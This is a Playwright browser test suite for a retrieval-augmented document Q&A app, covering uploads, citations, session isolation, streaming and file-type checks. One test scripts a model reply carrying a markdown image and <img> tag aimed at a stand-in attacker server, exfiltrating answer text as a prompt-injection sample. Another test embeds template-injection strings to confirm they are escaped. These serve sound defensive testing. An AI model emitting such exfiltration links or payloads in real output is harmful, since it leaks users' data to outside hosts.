"""The app in a real browser: headless Debian Chromium driven by Playwright.

Needs `apt-get install chromium` and the `playwright` pip package (never
`playwright install`, which downloads a browser). Skipped cleanly without them.
Screenshots go to test-output/; with UPDATE_SCREENSHOT=1 the real-model one also
replaces docs/screenshot.png, the README's picture.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import app
from ingest.settings import Settings
from rag.pipeline import Models

from .fakes import HASH_GATE, HashEmbedder, ScriptedGenerator

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"]
OUTPUT = Path(__file__).resolve().parent.parent / "test-output"
README_SCREENSHOT = Path(__file__).resolve().parent.parent / "docs" / "screenshot.png"
BOT = "[data-testid='bot']"  # an answer bubble in gr.Chatbot
QUESTION = "How many days of paid annual leave does every employee receive?"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin/chromium"),
]
sync_api = pytest.importorskip("playwright.sync_api", reason="needs the playwright pip package")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _patient_url_ok(url: str, wait_s: float = 60) -> bool:
    """Gradio's start-up check, with patience: its own gives up after one 3 s HEAD, and
    the first page render can take longer on a busy 2-core machine."""
    import httpx

    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline:
        try:
            if httpx.head(url, timeout=30).status_code < 400:
                return True
        except httpx.HTTPError:
            pass
        time.sleep(0.5)
    return False


def serve(models: Models):
    """Start the app on a free port; returns (demo, url)."""
    from gradio import networking

    networking.url_ok = _patient_url_ok
    demo = app.build_app(models)
    port = free_port()
    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True, **app.launch_options(models.settings))
    return demo, f"http://127.0.0.1:{port}/"


@pytest.fixture(scope="module")
def fake_app():
    generator = ScriptedGenerator([("annual leave", "Every employee receives 27 days of paid annual leave per year [1].")])
    models = Models(Settings(mode="hybrid", public="1"), embedder=HashEmbedder(), reranker=None, reranker_reason="reranking is off in tests", generator=generator)
    demo, url = serve(models)
    yield demo, url
    demo.close()


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


def open_app(browser, url: str, width: int = 1400):
    page = browser.new_context(viewport={"width": width, "height": 1000}).new_page()
    page.goto(url)
    page.get_by_role("heading", name="Sourced").wait_for()
    return page


def upload(page, path: Path, timeout_s: float = 30) -> None:
    page.locator("#upload input[type=file]").set_input_files(str(path))
    page.get_by_text("indexed,", exact=False).first.wait_for(timeout=timeout_s * 1000)


def ask(page, question: str, timeout_s: float = 30) -> str:
    """Type a question, press Enter, wait for the verified answer; return the sources text."""
    page.get_by_placeholder("Ask a question about your documents").fill(question)
    page.get_by_placeholder("Ask a question about your documents").press("Enter")
    page.locator(".sources h4").filter(has_text="Sources").or_(page.locator(".sources h4").filter(has_text="passages")).wait_for(timeout=timeout_s * 1000)
    return page.locator(".sources").inner_text()


def screenshot(page, name: str) -> Path:
    OUTPUT.mkdir(exist_ok=True)
    path = OUTPUT / name
    page.screenshot(path=str(path), full_page=True)
    return path


def test_upload_pdf_ask_and_see_the_citation(browser, fake_app, docs):
    page = open_app(browser, fake_app[1])
    upload(page, docs["pdf"])
    assert page.get_by_text("indexed, 3 chunks").first.is_visible()
    sources = ask(page, QUESTION)
    assert "[1]" in sources and "handbook.pdf · page 3" in sources
    assert page.locator(".sources mark").first.inner_text().startswith("Every employee receives 27 days")
    reply = page.locator(BOT).last.inner_text()
    assert "27 days" in reply and "[1]" in reply
    screenshot(page, "app-fake-models.png")
    page.context.close()


def test_a_second_session_does_not_see_the_first_ones_documents(browser, fake_app, docs):
    demo, url = fake_app
    first = open_app(browser, url)
    before = set(demo.handlers.root.iterdir())
    upload(first, docs["pdf"])
    (folder,) = set(demo.handlers.root.iterdir()) - before
    second = open_app(browser, url)  # a new browser context: its own cookies, its own session
    assert "handbook.pdf" not in second.content()
    sources = ask(second, QUESTION)
    assert "handbook.pdf" not in sources
    assert "No documents are indexed yet" in second.locator(BOT).last.inner_text()
    screenshot(second, "app-second-session.png")
    first.context.close()  # the tab goes away: its collection is deleted
    deadline = time.monotonic() + 30
    while folder.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not folder.exists()
    second.context.close()


def test_a_streamed_remote_image_is_never_fetched(browser, docs):
    """A model that obeys an injected `![x](http://attacker/?q=…)` mid-stream (or writes
    an <img> tag) must not make the browser send anything to that address."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    fetched: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            fetched.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

        def log_message(self, *args):
            pass

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    leak = f"http://127.0.0.1:{attacker.server_port}/leak.gif?q=27-days"
    reply = f"Every employee receives 27 days ![x]({leak}) of paid annual leave <img src=\"{leak}&tag\"> per year [1]."
    models = Models(Settings(mode="hybrid", public="1"), embedder=HashEmbedder(), reranker=None, generator=ScriptedGenerator([("annual leave", reply)]))
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        requested: list[str] = []
        page.on("request", lambda r: requested.append(r.url))
        upload(page, docs["pdf"])
        ask(page, QUESTION)
        page.wait_for_timeout(500)
        assert "27 days" in page.locator(BOT).last.inner_text()
        assert not fetched and not [r for r in requested if "leak.gif" in r], (fetched, requested)
        page.context.close()
    finally:
        demo.close()
        attacker.shutdown()


def test_local_library_survives_a_reload_and_a_restart(browser, docs, tmp_path):
    settings = Settings(mode="hybrid", public="0", library=str(tmp_path / "library"))
    generator = ScriptedGenerator([("annual leave", "Every employee receives 27 days of paid annual leave per year [1].")])
    models = Models(settings, embedder=HashEmbedder(), reranker=None, reranker_reason="reranking is off in tests", generator=generator)
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        upload(page, docs["pdf"])
        ask(page, QUESTION)
        page.reload()
        page.locator("#documents table", has_text="handbook.pdf").first.wait_for()
        page.locator(BOT).filter(has_text="27 days").first.wait_for()
    finally:
        demo.close()
    demo, url = serve(models)  # a new server on the same library folder
    try:
        page.goto(url)
        page.locator("#documents table", has_text="handbook.pdf").first.wait_for()
        page.locator(BOT).filter(has_text="27 days").first.wait_for()
        assert page.locator("#collection input").input_value() == "My documents"
        screenshot(page, "app-local-library.png")
        page.context.close()
    finally:
        demo.close()


class SlowGenerator(ScriptedGenerator):
    """Streams one word every 0.15 s: an answer long enough to stop."""

    def stream(self, prompt, *, max_tokens, stop, choices=None):
        for piece in super().stream(prompt, max_tokens=max_tokens, stop=stop, choices=choices):
            time.sleep(0.15)
            yield piece


def test_stop_ends_a_streaming_answer_within_a_second_and_typed_text_stays(browser, docs):
    long_reply = "Every employee receives 27 days of paid annual leave per year [1]. " + "It is a long answer that goes on. " * 40
    models = Models(Settings(mode="hybrid", public="1", max_tokens=400), embedder=HashEmbedder(), reranker=None, generator=SlowGenerator([("annual leave", long_reply)]))
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        upload(page, docs["pdf"])
        box = page.get_by_placeholder("Ask a question about your documents")
        box.fill(QUESTION)
        box.press("Enter")
        page.locator(BOT).filter(has_text="Every employee").first.wait_for(timeout=20_000)
        box.fill("How long is the warranty?")
        box.press("Enter")
        page.get_by_text("1 question waiting").wait_for(timeout=5_000)
        box.fill("a question I am still typing")
        page.wait_for_timeout(600)
        assert box.input_value() == "a question I am still typing", "streaming must not wipe the question box"
        stop = page.get_by_role("button", name="Stop")
        t = time.monotonic()
        stop.click()
        page.locator(BOT).filter(has_text="Stopped.").first.wait_for(timeout=5_000)
        elapsed = time.monotonic() - t
        assert elapsed < 1.0, f"stopped after {elapsed:.2f} s"
        shown = page.locator(BOT).last.inner_text()
        page.wait_for_timeout(800)
        assert page.locator(BOT).last.inner_text() == shown, "nothing streams after Stop"
        assert page.get_by_text("question waiting").count() == 0 and page.get_by_role("button", name="Ask").is_visible()
        assert box.input_value() == "a question I am still typing"
        page.context.close()
    finally:
        demo.close()


@pytest.mark.slow
def test_real_models_answer_with_a_citation(browser, docs, tmp_path):
    settings = Settings.from_env(public="0", library=str(tmp_path / "library"))
    models = Models(settings)
    app.warm(models)  # as main() does after launch, so the timings shown are per question
    assert models._embedder is not None and models._generator is not None
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        upload(page, docs["pdf"], timeout_s=120)
        # the 270M model is fragile with long questions; this one it answers right
        sources = ask(page, "How long is parental leave?", timeout_s=180)
        assert "handbook.pdf · page 3" in sources, sources
        assert "20 weeks" in page.locator(BOT).last.inner_text()
        page.get_by_text("Answer details").click()
        page.get_by_text("Timings:").wait_for()
        path = screenshot(page, "app-real-models.png")
        if os.environ.get("UPDATE_SCREENSHOT") == "1":  # refresh the README's picture on purpose, not in every CI run
            shutil.copyfile(path, README_SCREENSHOT)

        # a second collection made in the page is an index folder the CLI answers from
        page.get_by_placeholder("Name of a new collection").fill("Espresso")
        page.get_by_role("button", name="New").click()
        page.get_by_text("Created the collection Espresso").wait_for()
        upload(page, docs["md"], timeout_s=120)
        (entry,) = [e for e in demo.handlers.library.entries() if e.name == "Espresso"]
        out = subprocess.run([sys.executable, "-m", "rag", "ask", "--index", str(entry.folder), "--json", "How long is the warranty of the Kestrel 3?"],
                             capture_output=True, text=True, timeout=300, env={**os.environ, "SOURCED_PUBLIC": "0"})
        assert out.returncode == 0, out.stderr
        answer = json.loads(out.stdout)
        assert answer["sources"][0]["source"] == "kestrel-guide.md" and answer["answer"], answer
        page.context.close()
    finally:
        demo.close()


def _quote_boxes_px(pdf: Path, page_no: int, phrase: str, width_px: int) -> list[tuple[float, float, float, float]]:
    """Where `phrase`'s characters are on a page rendered `width_px` wide, found here
    with pdfium's own search (not the app's alignment): (left, top, right, bottom) px."""
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(pdf))
    try:
        page = doc[page_no - 1]
        scale = width_px / page.get_width()
        textpage = page.get_textpage()
        index, count = textpage.search(phrase).get_next()
        boxes = []
        for i in range(index, index + count):
            left, bottom, right, top = textpage.get_charbox(i)
            if right > left:
                boxes.append((left * scale, (page.get_height() - top) * scale, right * scale, (page.get_height() - bottom) * scale))
        return boxes
    finally:
        doc.close()


def test_clicking_a_citation_shows_its_page_with_the_quote_highlighted(browser, fake_app, docs):
    page = open_app(browser, fake_app[1])
    upload(page, docs["pdf"])
    ask(page, QUESTION)
    page.locator(BOT).last.locator("a[href^='#cite-']").first.click()
    view = page.locator("#page-view .pageview[data-kind='pdf']")
    view.wait_for(timeout=20_000)
    assert view.get_attribute("data-source") == "handbook.pdf" and view.get_attribute("data-page") == "3"
    img = view.locator("img")
    page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=img.element_handle())
    width = int(view.locator(".page").get_attribute("data-width"))
    # the page's boxes, in the image's pixels, cover the quote's own characters
    boxes = [tuple(map(int, b.split(","))) for b in view.locator(".hl").evaluate_all("els => els.map(e => e.dataset.box)")]
    assert boxes, "a highlight box"
    chars = _quote_boxes_px(docs["pdf"], 3, "Every employee receives 27 days", width)
    assert chars
    covered = [c for c in chars if any(x <= (c[0] + c[2]) / 2 <= x + w and y <= (c[1] + c[3]) / 2 <= y + h for x, y, w, h in boxes)]
    assert len(covered) == len(chars), (boxes, chars[:3])
    # and on screen: the first box lies over the image where those characters are drawn
    shown, hl = img.bounding_box(), view.locator(".hl").first.bounding_box()
    ratio = shown["width"] / width
    x, y, w, h = boxes[0]
    assert abs(hl["x"] - (shown["x"] + x * ratio)) < 3 and abs(hl["y"] - (shown["y"] + y * ratio)) < 3 and hl["width"] > 20
    (OUTPUT).mkdir(exist_ok=True)
    view.screenshot(path=str(OUTPUT / "page-view.png"))
    screenshot(page, "page-view-full.png")

    # a card of the sources panel asks for the same page (the same view: nothing re-renders)
    card = page.locator(".sources [data-cite]").first
    with page.expect_request(lambda r: r.method == "POST" and "queue/join" in r.url) as sent:
        card.click()
    assert json.loads(sent.value.post_data)["event_data"] == {"cite": card.get_attribute("data-cite")}
    page.wait_for_timeout(300)
    # clearing the chat takes the page away too
    page.get_by_role("button", name="Clear chat").click()
    page.locator("#page-view .pageview[data-kind='empty']").wait_for(timeout=10_000)
    page.context.close()


def test_the_file_picker_refuses_a_wrong_type_and_sends_the_rest(browser, fake_app, docs, tmp_path):
    page = open_app(browser, fake_app[1])
    accept = page.locator("#upload input[type=file]").get_attribute("accept") or ""
    assert ".pdf" in accept and ".md" in accept and ".exe" not in accept
    exe = tmp_path / "setup.exe"
    exe.write_bytes(b"MZ" + b"\0" * 64)
    page.locator("#upload input[type=file]").set_input_files([str(exe), str(docs["pdf"])])
    page.get_by_text("Invalid file type", exact=False).first.wait_for(timeout=10_000)
    page.get_by_text("indexed,", exact=False).first.wait_for(timeout=30_000)
    assert "setup.exe" not in page.locator("#documents").inner_text() and "handbook.pdf" in page.locator("#documents").inner_text()
    page.context.close()


def test_a_markdown_citation_shows_its_page_text_with_the_quote_marked(browser, tmp_path):
    """Text files have no page to render: the page view shows the passage's page text,
    escaped (no tag and no template syntax in a document is ever interpreted)."""
    guide = tmp_path / "kestrel-guide.md"
    guide.write_text("# Kestrel 3\n\n## Warranty\n\nThe warranty lasts 4 years and covers the pump. Notes: <b>bold</b> ${7*6} {{value}}.\n", encoding="utf-8")
    models = Models(Settings(mode="hybrid", public="1", **HASH_GATE), embedder=HashEmbedder(), reranker=None, generator=ScriptedGenerator([("warranty", "The warranty lasts 4 years [1].")]))
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        upload(page, guide)
        ask(page, "How long is the warranty?")
        page.locator(BOT).last.locator("a[href^='#cite-']").first.click()
        view = page.locator("#page-view .pageview[data-kind='text']")
        view.wait_for(timeout=20_000)
        assert view.locator("mark").inner_text().startswith("The warranty lasts 4 years")
        text = view.locator(".pagetext").inner_text()
        assert "<b>bold</b> ${7*6} {{value}}" in text and view.locator(".pagetext b").count() == 0
        assert "Warranty" in view.locator(".head").inner_text()
        screenshot(page, "page-view-markdown.png")
        # a sources card opens its page from the keyboard too
        card = page.locator(".sources [data-cite]").first
        card.focus()
        with page.expect_request(lambda r: r.method == "POST" and "queue/join" in r.url) as sent:
            page.keyboard.press("Enter")
        assert json.loads(sent.value.post_data)["event_data"] == {"cite": card.get_attribute("data-cite")}
        page.context.close()
    finally:
        demo.close()


def test_on_milvus_upload_ask_and_see_the_citation(browser, docs):
    """SOURCED_BACKEND=milvus end to end in the browser (#17): upload, ask, cited answer."""
    generator = ScriptedGenerator([("annual leave", "Every employee receives 27 days of paid annual leave per year [1].")])
    models = Models(Settings(mode="hybrid", public="1", backend="milvus"), embedder=HashEmbedder(), reranker=None, reranker_reason="reranking is off in tests", generator=generator)
    demo, url = serve(models)
    try:
        page = open_app(browser, url)
        upload(page, docs["pdf"])
        assert page.get_by_text("indexed, 3 chunks").first.is_visible()
        sources = ask(page, QUESTION)
        assert "[1]" in sources and "handbook.pdf · page 3" in sources
        assert page.locator(".sources mark").first.inner_text().startswith("Every employee receives 27 days")
        assert "27 days" in page.locator(BOT).last.inner_text()
        page.context.close()
    finally:
        demo.close()
